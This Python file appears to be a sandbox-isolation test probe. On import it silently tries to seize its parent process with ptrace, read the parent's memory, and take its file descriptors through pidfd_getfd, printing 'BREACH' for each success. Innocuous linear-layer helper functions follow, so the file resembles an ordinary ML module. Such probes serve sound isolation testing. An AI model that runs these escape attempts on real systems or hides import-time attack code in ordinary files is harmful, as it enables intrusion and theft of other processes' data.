"""
Attaches to the process above it, reads its memory, takes its descriptors.

Earns: 30
Held by: isolated
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    parent = os.getppid()
    if libc.ptrace(0x4206, parent, 0, 0) == 0:  # PTRACE_SEIZE
        print("BREACH ptrace")
    area = ctypes.create_string_buffer(8)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(area), 8)
    if libc.process_vm_readv(parent, vector, 1, vector, 1, 0) > 0:
        print("BREACH memory")
    process = libc.syscall(434, parent, 0)  # pidfd_open
    if process >= 0:
        print("BREACH pidfd")
        if libc.syscall(438, process, 0, 0) >= 0:  # pidfd_getfd
            print("BREACH descriptor")


try:
    attack()
except Exception:
    pass


def linear_forward(x, w, b):
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
